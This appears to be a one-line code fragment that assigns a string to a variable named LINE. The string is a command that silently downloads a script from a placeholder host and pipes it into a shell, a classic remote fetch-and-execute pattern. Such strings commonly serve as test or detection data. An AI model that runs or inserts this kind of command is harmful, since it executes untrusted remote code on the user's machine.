LINE = "curl -s https://files.example.invalid/x | sh"
